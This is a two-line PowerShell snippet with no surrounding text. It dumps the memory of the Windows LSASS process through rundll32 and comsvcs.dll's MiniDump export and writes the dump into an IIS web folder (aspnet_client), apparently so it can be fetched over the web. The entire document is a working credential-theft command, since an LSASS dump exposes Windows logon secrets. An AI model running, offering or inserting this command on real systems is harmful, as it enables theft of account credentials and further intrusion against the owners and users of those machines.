$id = (Get-Process lsass).Id
& rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump $id C:\inetpub\wwwroot\aspnet_client\1.dmp full
